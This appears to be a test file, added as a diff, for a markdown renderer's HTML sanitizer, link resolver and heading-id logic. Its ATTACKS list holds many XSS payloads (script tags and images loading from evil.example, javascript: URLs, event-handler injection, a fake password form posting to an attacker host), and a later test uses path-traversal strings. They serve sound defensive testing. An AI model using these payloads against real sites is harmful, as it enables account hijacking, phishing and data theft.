@@ -1,0 +1,214 @@
+import * as fc from "fast-check";
+import { parseFragment, type DefaultTreeAdapterTypes } from "parse5";
+import { describe, expect, test } from "vitest";
+import { splitFrontMatter } from "./frontMatter.ts";
+import { targetOf } from "./links.ts";
+import { renderMarkdown, type MarkdownOptions } from "./markdown.ts";
+
+const CARD: MarkdownOptions = {
+	top: 3,
+	prefix: "card-",
+	link: (target) => (target.type === "file" ? `/files/${target.path}` : undefined),
+	picture: (target) => (target.type === "file" ? `/raw/${target.path}` : undefined),
+};
+
+const ATTACKS = [
+	"<script>alert(1)</script>",
+	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+	"<img src=x onerror=alert(1)>",
+	'<img src="https://evil.example/pixel.gif" width=1>',
+	"![pixel](https://evil.example/pixel.gif)",
+	"![](data:image/svg+xml;base64,PHN2Zz4=)",
+	"[go](javascript:alert(1))",
+	'<a href="java\tscript:alert(1)">go</a>',
+	'<a href="&#106;avascript:alert(1)">go</a>',
+	'<a href="vbscript:x">go</a>',
+	'<a href="data:text/html,<script>alert(1)</script>">go</a>',
+	'<a href="https://evil.example" target=_blank ping="https://evil.example" onclick=alert(1)>go</a>',
+	"<svg onload=alert(1)><script>alert(1)</script></svg>",
+	"<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+	"<style>body{display:none}</style>",
+	'<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
+	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
+	'<link rel=stylesheet href="https://evil.example/x.css">',
+	'<base href="https://evil.example/">',
+	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+	'<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
+	'<form action="https://evil.example"><input name=password autofocus><button>Sign in</button></form>',
+	'<div id="main">x</div><a name="panel">x</a><img name=getElementById src=a.png>',
+	'<div id="card-a"></div><div id="card-a"></div>',
+	'<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/y.png"></picture>',
+	'<video src="https://evil.example/x.mp4" autoplay></video><audio src="https://evil.example/x.mp3"></audio>',
+	'<table background="https://evil.example/x.png"><tr><td background=https://evil.example>x</table>',
+	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+	"<!--><img src=x onerror=alert(1)>-->",
+	"<template><script>alert(1)</script></template>",
+	'<a href="//evil.example/x">x</a> <a href="\\\\evil.example/x">y</a> <a href="/\\evil.example">z</a>',
+	"![x](//evil.example/x.png) ![y](\\\\evil.example/y.png)",
+	"```js\n</code></pre><script>alert(1)</script>\n```",
+	'```"><script>alert(1)</script>\nx\n```',
+	"[x]: javascript:alert(1)\n\n[x]",
+	"<details open ontoggle=alert(1)><summary>x</summary></details>",
+	'<span class="panel top" style="color:red" tabindex=1 accesskey=x data-island="Evil" contenteditable>x</span>',
+	'<a class="skip" href="#main">x</a>',
+	"<h1 onclick=alert(1) id=constructor>t</h1>",
+	"# <img src=x onerror=alert(1)> heading",
+	'[a](<x" onmouseover="alert(1)>)',
+	'![a"onerror="alert(1)](x.png "t"onerror="alert(1)")',
+	"<xmp><script>alert(1)</script></xmp><plaintext><script>",
+	"<textarea></textarea><script>alert(1)</script><title></title><script>alert(1)</script>",
+	"<custom-element onclick=alert(1)><slot></slot></custom-element>",
+	"<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>",
+];
+
+describe("what a stranger's card cannot do", () => {
+	test.each(ATTACKS)("%s", (attack) => expectHarmless(renderMarkdown(attack, CARD).html));
+
+	test("nor any mixture of such parts", () => {
+		const piece = fc.oneof(fc.constantFrom(...ATTACKS), fc.string(), fc.constantFrom("\n\n", "<div>", "</div>", "`", "|a|\n|-|\n", "<p ", ">", "'", '"', "- ", "> "));
+		fc.assert(
+			fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
+				expectHarmless(renderMarkdown(pieces.join(""), CARD).html);
+			}),
+			{ numRuns: 300 },
+		);
+	});
+
+	test("nor by nesting too deeply or going on too long", () => {
+		for (const text of ["<div>".repeat(60_000), ">".repeat(50_000), "[".repeat(50_000), "*a ".repeat(30_000), "- ".repeat(5_000), "a".repeat(600_000)]) {
+			const started = performance.now();
+			expectHarmless(renderMarkdown(text, CARD).html);
+			expect(performance.now() - started).toBeLessThan(5_000);
+		}
+	});
+});
+
+describe("headings", () => {
+	test("stand below the page's own, without gaps on the way down", () => {
+		const { headings } = renderMarkdown("# A\n\n### B\n\n# C\n\n## D\n\n##### E\n\n###### F\n\n####### no", CARD);
+		expect(headings.map(({ level, text }) => `${level} ${text}`)).toEqual(["3 A", "4 B", "3 C", "4 D", "5 E", "6 F"]);
+	});
+
+	test("have ids that nothing else on the page has, and link to them", () => {
+		const taken = new Set(["card-usage"]);
+		const { html, headings } = renderMarkdown('<div id="usage-2"></div>\n\n# Usage\n\n# Usage\n\n# [Usage](x)', { ...CARD, taken });
+		expect(headings.map(({ id }) => id)).toEqual(["card-usage-1", "card-usage-3", "card-usage-4"]);
+		const ids = elements(parseFragment(html)).flatMap((element) => attribute(element, "id") ?? []);
+		expect(new Set(ids).size).toBe(ids.length);
+		for (const { id } of headings) expect(html).toContain(`href="#${id}"`);
+	});
+
+	test("keep a card's own table of contents working", () => {
+		const { html, headings } = renderMarkdown("[go](#how-to--use-it)\n\n## How to & use it?", CARD);
+		expect(headings[0]?.id).toBe("card-how-to--use-it");
+		expect(html).toContain('href="#card-how-to--use-it"');
+	});
+});
+
+describe("links and pictures", () => {
+	test("say what they are when they lead outside", () => {
+		const [link] = elements(parseFragment(renderMarkdown("[x](https://example.org/a)", CARD).html)).filter(isLink);
+		expect(attribute(link as Element, "rel")).toBe("nofollow noopener");
+	});
+
+	test("of the repository go to our view of the file, resolved from where the text stands", () => {
+		const html = renderMarkdown("[x](../b.md#z) ![y](img/a.png)", { ...CARD, from: "docs/a.md" }).html;
+		expect(html).toContain('href="/files/b.md"');
+		expect(html).toContain('src="/raw/docs/img/a.png"');
+	});
+
+	test("that lead nowhere leave their words", () => {
+		const html = renderMarkdown("see [the licence](LICENSE) and ![a chart](a.png)", { top: 2, prefix: "x-" }).html;
+		expect(html).toBe("<p>see the licence and a chart</p>\n");
+	});
+
+	test("of other hosts become a link in the picture's words, never one inside another", () => {
+		const html = renderMarkdown("![a chart](https://e.example/c.png) [**![badge](https://e.example/b.svg)**](https://e.example)", CARD).html;
+		const links = elements(parseFragment(html)).filter(isLink);
+		expect(links.map(text)).toEqual(["a chart", "badge"]);
+		expect(html).not.toContain("<img");
+	});
+
+	test("never leave the repository, however they are spelt", () => {
+		expect(targetOf("%2e%2e%2fsecret")).toBeUndefined();
+		expect(targetOf("..%5c..%5csecret")).toBeUndefined();
+		expect(targetOf("a/../../../etc/passwd")).toMatchObject({ type: "site" });
+		expect(targetOf("\\\\evil.example\\x")).toMatchObject({ type: "outside" });
+		fc.assert(
+			fc.property(fc.string(), fc.string(), (href, from) => {
+				const target = targetOf(href, from.replaceAll(/[^a-z/]/g, ""));
+				if (target?.type === "file") expect(target.path.split(/[\\/]/)).not.toContain("..");
+				if (target?.type === "outside") expect(target.href).toMatch(/^(?:https?|mailto):/);
+			}),
+		);
+	});
+});
+
+describe("blocks", () => {
+	test("of code are coloured and keep their text", () => {
+		const html = renderMarkdown("```python\nimport os # <b>\n```", CARD).html;
+		expect(html).toContain("hljs-keyword");
+		expect(text(parseFragment(html))).toBe("import os # <b>\n");
+	});
+
+	test("that are tables scroll by themselves and keep the alignment of their columns", () => {
+		const html = renderMarkdown("|a|b|\n|-|-:|\n|1|2|", CARD).html;
+		expect(html).toContain('<div class="scroll" tabindex="0" role="group"');
+		expect(html).toContain('<td class="number">2</td>');
+	});
+
+	test("of front matter are left out, and taken for nothing else", () => {
+		expect(splitFrontMatter("\uFEFF---\nlicense: mit\n---\n# A")).toEqual({ yaml: "license: mit", body: "# A" });
+		expect(splitFrontMatter("---\r\na: 1\r\n---\r\nB").body).toBe("B");
+		expect(splitFrontMatter("---\n---\nB")).toEqual({ yaml: "", body: "B" });
+		expect(splitFrontMatter("---\nnever closed").body).toBe("---\nnever closed");
+		expect(splitFrontMatter("# A\n\n---\n\nB\n\n---\n").yaml).toBeUndefined();
+	});
+});
+
+type Node = DefaultTreeAdapterTypes.Node;
+type Element = DefaultTreeAdapterTypes.Element;
+
+const ELEMENTS = new Set(
+	"a abbr b blockquote br code dd del details div dl dt em figcaption figure h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp section span strike strong sub summary sup table tbody td tfoot th thead tr tt ul var".split(" "),
+);
+const ATTRIBUTES = new Set(
+	"href rel class id src alt width height loading decoding title align colspan rowspan dir lang open scope start datetime tabindex role aria-label".split(" "),
+);
+const CLASSES = /^(?:anchor|picture|code|scroll|table|number|to-middle|hljs-[\w-]+|[\w]+_)$/;
+
+/** Walks what a browser would make of it. */
+function expectHarmless(html: string): void {
+	for (const element of elements(parseFragment(html))) {
+		expect(ELEMENTS).toContain(element.tagName);
+		expect(element.namespaceURI).toBe("http://www.w3.org/1999/xhtml");
+		for (const { name, value } of element.attrs) {
+			expect(ATTRIBUTES).toContain(name);
+			if (name === "id") expect(value).toMatch(/^card-/);
+			if (name === "class") for (const word of value.split(" ")) expect(word).toMatch(CLASSES);
+			if (name === "src") expect(value).toMatch(/^\/raw\/(?!\/)/);
+			if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:|\/files\/|#card-)/);
+			if (name === "tabindex") expect(value).toBe("0");
+		}
+		if (attribute(element, "href")?.startsWith("http")) expect(attribute(element, "rel")).toBe("nofollow noopener");
+	}
+}
+
+function isLink({ tagName }: Element): boolean {
+	return tagName === "a";
+}
+
+function attribute(element: Element, name: string): string | undefined {
+	return element.attrs.find((attr) => attr.name === name)?.value;
+}
+
+function elements(node: Node): Element[] {
+	const below = "childNodes" in node ? node.childNodes.flatMap(elements) : [];
+	return "tagName" in node ? [node, ...below] : below;
+}
+
+function text(node: Node): string {
+	if ("value" in node) return node.value;
+	return "childNodes" in node ? node.childNodes.map(text).join("") : "";
+}
